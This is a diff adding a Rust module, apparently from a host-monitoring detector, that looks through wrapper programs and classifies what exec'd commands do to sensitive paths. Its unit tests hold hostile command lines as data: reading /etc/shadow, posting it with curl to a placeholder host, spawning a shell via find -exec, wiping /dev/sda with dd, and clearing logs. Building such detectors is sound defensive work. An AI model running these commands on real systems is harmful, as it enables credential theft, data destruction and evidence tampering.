@@ -1,0 +1,384 @@
+//! The program, its arguments, and what they do to files.
+
+use std::borrow::Cow;
+
+use crate::event::Exec;
+use crate::facts::{Facts, Field};
+use crate::names::{absolute, base_name, plain_name};
+use crate::words::Words;
+
+/// Most arguments that are looked at.
+const MAX_ARGUMENTS: usize = 1_024;
+
+/// Longest argument that may be a path.
+const MAX_PATH_BYTES: usize = 4_096;
+
+/// Most programs in front of the one that is run.
+const MAX_WRAPPERS: usize = 6;
+
+/// Programs that run another, with those of their options that take a value.
+const WRAPPERS: &[Wrapper] = &[
+    ("sudo", &["-u", "-g", "-h", "-p", "-C", "-D", "-r", "-t", "-T", "-U", "--user", "--group"]),
+    ("doas", &["-u", "-C"]),
+    ("env", &["-u", "-C", "-S", "--unset", "--chdir"]),
+    ("nohup", &[]),
+    ("setsid", &[]),
+    ("timeout", &["-k", "-s", "--signal", "--kill-after"]),
+    ("nice", &["-n", "--adjustment"]),
+    ("ionice", &["-c", "-n", "-p"]),
+    ("stdbuf", &["-i", "-o", "-e"]),
+    ("time", &["-f", "-o"]),
+    ("xargs", &["-n", "-I", "-P", "-L", "-d", "-a", "-s", "-E", "-i"]),
+    ("busybox", &[]),
+    ("toybox", &[]),
+    ("chroot", &["-u", "-g"]),
+    ("taskset", &["-c", "-p"]),
+    ("chrt", &["-p"]),
+    ("runuser", &["-u", "-g", "-G"]),
+    ("pkexec", &["--user"]),
+    ("proxychains", &["-f"]),
+    ("proxychains4", &["-f"]),
+    ("torsocks", &[]),
+    ("torify", &[]),
+    ("firejail", &[]),
+    ("setarch", &[]),
+    ("exec", &["-a"]),
+    ("command", &[]),
+    ("builtin", &[]),
+    ("eatmydata", &[]),
+    ("faketime", &[]),
+    ("unbuffer", &[]),
+    ("parallel", &["-j"]),
+    ("chpst", &["-u"]),
+    ("systemd-inhibit", &[]),
+    ("ld-linux-x86-64.so.2", &["--library-path", "--preload"]),
+    ("ld.so", &["--library-path", "--preload"]),
+    ("ld-linux.so.2", &["--library-path"]),
+    ("ld-musl-x86_64.so.1", &[]),
+];
+
+/// Names, classes, arguments and files of an exec.
+pub(super) fn program<'a>(words: &'a Words, exec: &Exec<'a>, facts: &mut Facts<'a>) {
+    let own = exec.argv.first().copied().unwrap_or_default().trim_start_matches('-');
+    for path in [exec.exe, exec.filename, own] {
+        tool(words, path, facts);
+    }
+    let bounded = &exec.argv[..exec.argv.len().min(MAX_ARGUMENTS)];
+    let mut arguments = bounded.get(1..).unwrap_or_default();
+    // Of a script, the arguments begin behind its own path.
+    if let Some((first, rest)) = arguments.split_first()
+        && *first == exec.filename
+    {
+        arguments = rest;
+    }
+    let mut wrapper = [exec.exe, exec.filename, own].into_iter().find_map(wrapper_named);
+    for _ in 0..MAX_WRAPPERS {
+        let Some((program, rest)) = wrapper.and_then(|wrapper| inner(wrapper, arguments)).and_then(<[_]>::split_first)
+        else {
+            break;
+        };
+        tool(words, program, facts);
+        arguments = rest;
+        wrapper = wrapper_named(program);
+    }
+    arguments.iter().for_each(|argument| split_argument(argument, facts));
+    let names: Vec<Cow<'a, str>> = facts.get(Field::Tool).to_vec();
+    let names: Vec<&str> = names.iter().map(Cow::as_ref).collect();
+    Effects { words, cwd: exec.cwd, facts }.of(&names, arguments);
+    run_by_option(words, arguments, facts);
+}
+
+fn tool<'a>(words: &'a Words, path: &'a str, facts: &mut Facts<'a>) {
+    let name = base_name(path);
+    if name.is_empty() {
+        return;
+    }
+    facts.add(Field::Tool, name);
+    facts.add(Field::Tool, plain_name(name));
+    let mut classes = Vec::new();
+    words.program(name, &mut classes);
+    facts.extend(Field::Class, classes);
+}
+
+type Wrapper = (&'static str, &'static [&'static str]);
+
+fn wrapper_named(path: &str) -> Option<&'static Wrapper> {
+    let name = base_name(path);
+    WRAPPERS.iter().find(|(own, _)| *own == name)
+}
+
+/// The arguments of a wrapper from the inner program on.
+fn inner<'s, 'a>(wrapper: &Wrapper, arguments: &'s [&'a str]) -> Option<&'s [&'a str]> {
+    let (name, valued) = wrapper;
+    let mut at = 0;
+    // These take something before the program.
+    let mut operands = usize::from(matches!(*name, "timeout" | "chroot" | "taskset" | "chrt" | "setarch" | "faketime"));
+    while let Some(argument) = arguments.get(at) {
+        if valued.contains(argument) {
+            at += 2;
+        } else if argument.starts_with('-') || is_assignment(argument) {
+            at += 1;
+        } else if operands > 0 {
+            operands -= 1;
+            at += 1;
+        } else {
+            return arguments.get(at..);
+        }
+    }
+    None
+}
+
+fn is_assignment(word: &str) -> bool {
+    word.split_once('=').is_some_and(|(name, _)| {
+        !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
+    })
+}
+
+/// `find -exec`, `tar --checkpoint-action=exec`, `ssh -o ProxyCommand=` and the like run something too.
+fn run_by_option<'a>(words: &'a Words, arguments: &[&'a str], facts: &mut Facts<'a>) {
+    for pair in arguments.windows(2) {
+        if matches!(pair[0], "-exec" | "-execdir" | "-ok" | "-okdir" | "--to-command" | "--use-compress-program") {
+            runs(words, pair[1], facts);
+        }
+    }
+    for argument in arguments {
+        let command = ["--checkpoint-action=exec=", "--to-command=", "ProxyCommand=", "-oProxyCommand=", "--use-compress-program="]
+            .iter()
+            .find_map(|prefix| argument.strip_prefix(prefix));
+        if let Some(program) = command.and_then(|command| command.split_whitespace().next()) {
+            runs(words, program, facts);
+        }
+    }
+}
+
+/// A program that is run from within.
+pub(super) fn runs<'a>(words: &'a Words, program: &str, facts: &mut Facts<'a>) {
+    let name = base_name(program.trim_start_matches('-'));
+    let plain = plain_name(name).to_owned();
+    facts.add(Field::Runs, name.to_owned());
+    facts.add(Field::Runs, plain);
+    let mut classes = Vec::new();
+    words.program(name, &mut classes);
+    facts.extend(Field::RunsClass, classes);
+}
+
+fn split_argument<'a>(argument: &'a str, facts: &mut Facts<'a>) {
+    facts.add(Field::Arg, argument);
+    if let Some(long) = argument.strip_prefix("--") {
+        if let Some((name, value)) = long.split_once('=') {
+            facts.add(Field::Arg, &argument[..name.len() + 2]);
+            facts.add(Field::Arg, value);
+        }
+    } else if let Some(short) = argument.strip_prefix('-')
+        && (2..=8).contains(&short.len())
+        && short.bytes().all(|byte| byte.is_ascii_alphabetic())
+    {
+        short.chars().for_each(|letter| facts.add(Field::Arg, format!("-{letter}")));
+    }
+}
+
+/// What becomes of a path.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Use {
+    Read,
+    Write,
+    Change,
+    Remove,
+}
+
+impl Use {
+    fn field(self) -> Field {
+        match self {
+            Self::Read => Field::Read,
+            Self::Write => Field::Write,
+            Self::Change => Field::Change,
+            Self::Remove => Field::Remove,
+        }
+    }
+}
+
+/// Tells what a command does to which kinds of paths.
+pub(super) struct Effects<'f, 'a> {
+    pub(super) words: &'a Words,
+    pub(super) cwd: &'f str,
+    pub(super) facts: &'f mut Facts<'a>,
+}
+
+impl Effects<'_, '_> {
+    /// Looks at all arguments of the program that goes by `names`.
+    pub(super) fn of(&mut self, names: &[&str], arguments: &[&str]) {
+        let is = |own: &[&str]| names.iter().any(|name| own.contains(name));
+        if is(&["echo", "printf", "test", "[", "expr", "basename", "dirname", "pgrep", "logger"]) {
+            return;
+        }
+        let operands = arguments.iter().filter(|argument| !argument.starts_with('-')).count();
+        let in_place = is(&["sed", "perl", "ruby"]) && arguments.iter().any(|word| is_in_place(word));
+        let discards = is(&["cp", "mv", "ln", "dd", "cat", "tee"]) && arguments.iter().any(|word| word.ends_with("/dev/null"));
+        let copies = is(&["cp", "mv", "install", "ln", "rsync", "scp", "link"]);
+        let target_first = arguments.iter().any(|word| *word == "-t" || word.starts_with("--target-directory"));
+        let (mut seen, mut before) = (0, "");
+        for argument in arguments {
+            let option = argument.starts_with('-');
+            seen += usize::from(!option);
+            let last = seen == operands && !option && operands > 1 && !target_first;
+            let what = if is(&["tee", "sponge"]) || in_place && seen > 1 || is_editor(names) {
+                Use::Write
+            } else if is(&["rm", "shred", "unlink", "srm", "wipe", "scrub", "rmdir", "truncate", "wipefs", "blkdiscard"]) {
+                Use::Remove
+            } else if is(&["chmod", "chown", "chgrp", "chattr", "touch", "setfacl", "setfattr", "setcap", "chcon", "mkfs", "mkdir"]) {
+                Use::Change
+            } else if argument.starts_with("of=") || copies && (last || before == "-t") || is_output(names, before, argument) {
+                Use::Write
+            } else {
+                Use::Read
+            };
+            self.argument(argument, what);
+            if what == Use::Write && discards || is(&["mv"]) && what == Use::Read {
+                self.argument(argument, Use::Remove);
+            }
+            before = argument;
+        }
+    }
+
+    fn argument(&mut self, argument: &str, what: Use) {
+        if argument.len() > MAX_PATH_BYTES {
+            return;
+        }
+        if let Some(path) = path_in(argument) {
+            self.path(path, what);
+            // `host-path:container-path`, `user@host:path`.
+            if let Some((left, right)) = path.split_once(':')
+                && !right.starts_with("//")
+            {
+                self.path(left, what);
+                if right.starts_with('/') {
+                    self.path(right, what);
+                }
+            }
+        } else if !argument.starts_with('-') && !argument.contains(char::is_whitespace) && argument.len() < 256 {
+            self.path(argument, what);
+        }
+    }
+
+    /// A path that is read, written and so on.
+    fn path(&mut self, path: &str, what: Use) {
+        let path = absolute(path, self.cwd);
+        let mut classes = Vec::new();
+        self.words.path(&path, &mut classes);
+        for class in classes {
+            self.facts.add(Field::Path, class);
+            self.facts.add(what.field(), class);
+        }
+    }
+
+    /// A file the shell opens for writing.
+    pub(super) fn written(&mut self, path: &str, truncated: bool) {
+        self.path(path, Use::Write);
+        if truncated {
+            self.path(path, Use::Remove);
+        }
+    }
+
+    /// A file the shell opens for reading.
+    pub(super) fn read(&mut self, path: &str) {
+        self.path(path, Use::Read);
+    }
+}
+
+fn is_in_place(word: &str) -> bool {
+    word == "--in-place"
+        || word.starts_with("--in-place=")
+        || word.starts_with('-') && !word.starts_with("--") && word.len() < 8 && word.contains('i')
+}
+
+fn is_editor(names: &[&str]) -> bool {
+    const EDITORS: &[&str] = &["vi", "vim", "nvim", "nano", "pico", "ed", "ex", "emacs", "joe", "mcedit", "micro"];
+    names.iter().any(|name| EDITORS.contains(name))
+}
+
+/// `curl -o FILE`, `wget -O FILE`, `gcc -o FILE`, `--output=FILE`.
+fn is_output(names: &[&str], before: &str, argument: &str) -> bool {
+    let attached = ["-o/", "--output=", "--output-document=", "--outfile="].iter().any(|prefix| argument.starts_with(prefix));
+    // `-o` is an option of its own sort for these.
+    let other = names.iter().any(|name| matches!(*name, "grep" | "find" | "mount" | "ps" | "ssh" | "stdbuf" | "set" | "useradd"));
+    attached
+        || !other && matches!(before, "-o" | "--output" | "--output-document" | "--outfile" | "-out" | "--out")
+        || matches!(before, "-O" | "-P") && names.contains(&"wget")
+}
+
+/// Where a path begins in an argument, if one does.
+fn path_in(argument: &str) -> Option<&str> {
+    if argument.starts_with(['/', '~', '$']) {
+        return Some(argument);
+    }
+    let at = argument.find('/')?;
+    if argument[at..].starts_with("//") {
+        return argument.strip_prefix("file://");
+    }
+    let head = &argument[..at];
+    match head.rfind(['=', '@', ',', '<', '>', '"', '\'', '(', ':', ' ']) {
+        Some(cut) => Some(&argument[cut + 1..]),
+        // `-o/tmp/x`: an option with its value.
+        None if head.starts_with('-') => Some(&argument[at..]),
+        None => Some(argument),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn facts_of<'a>(words: &'a Words, argv: &[&'a str]) -> Facts<'a> {
+        let exec = Exec { exe: argv[0], filename: argv[0], argv: argv.to_vec(), cwd: "/home/ann", ..Exec::default() };
+        let mut facts = Facts::default();
+        program(words, &exec, &mut facts);
+        facts
+    }
+
+    #[test]
+    fn wrappers_are_looked_through() {
+        let words = Words::parse(crate::pack::WORDS).unwrap();
+        for argv in [
+            &["sudo", "-u", "root", "cat", "/etc/shadow"][..],
+            &["env", "A=1", "nice", "-n", "5", "cat", "/etc/shadow"],
+            &["timeout", "-k", "5", "10", "sudo", "-n", "cat", "/etc/shadow"],
+            &["busybox", "cat", "/etc/shadow"],
+        ] {
+            let facts = facts_of(&words, argv);
+            assert!(facts.has(Field::Tool, "cat") && facts.has(Field::Read, "shadow"), "{argv:?}: {facts:?}");
+            assert!(facts.has(Field::Arg, "/etc/shadow") && !facts.has(Field::Arg, "cat"), "{argv:?}");
+        }
+        assert!(facts_of(&words, &["find", ".", "-exec", "/bin/sh", ";"]).has(Field::RunsClass, "shell"));
+    }
+
+    #[test]
+    fn what_becomes_of_files() {
+        let words = Words::parse(crate::pack::WORDS).unwrap();
+        for (argv, field, class) in [
+            (&["cp", "/etc/shadow", "/tmp/x"][..], Field::Read, "shadow"),
+            (&["cp", "/tmp/x", "/etc/shadow"], Field::Write, "shadow"),
+            (&["tee", "-a", "/etc/ld.so.preload"], Field::Write, "preload"),
+            (&["sed", "-i", "s/x/y/", "/etc/ssh/sshd_config"], Field::Write, "sshd_config"),
+            (&["sed", "s/x/y/", "/etc/ssh/sshd_config"], Field::Read, "sshd_config"),
+            (&["rm", "-rf", "/var/log/*"], Field::Remove, "log_of_record"),
+            (&["cp", "/dev/null", "/var/log/auth.log"], Field::Remove, "log_of_record"),
+            (&["dd", "if=/dev/zero", "of=/dev/sda"], Field::Write, "disk"),
+            (&["curl", "-o", "/etc/cron.d/x", "http://h/x"], Field::Write, "cron"),
+            (&["chmod", "777", "/etc/sudoers"], Field::Change, "sudoers"),
+            (&["docker", "run", "-v", "/var/run/docker.sock:/x", "i"], Field::Read, "socket_of_runtime"),
+            (&["curl", "-F", "file=@/etc/shadow", "http://h"], Field::Read, "shadow"),
+        ] {
+            let facts = facts_of(&words, argv);
+            assert!(facts.has(field, class), "{argv:?}: {facts:?}");
+        }
+    }
+
+    #[test]
+    fn arguments_in_every_form() {
+        let words = Words::parse(crate::pack::WORDS).unwrap();
+        let facts = facts_of(&words, &["x", "-xzf", "--out=y", "--long", "z"]);
+        for argument in ["-xzf", "-z", "--out", "y", "--long", "z"] {
+            assert!(facts.has(Field::Arg, argument), "{argument}");
+        }
+    }
+}
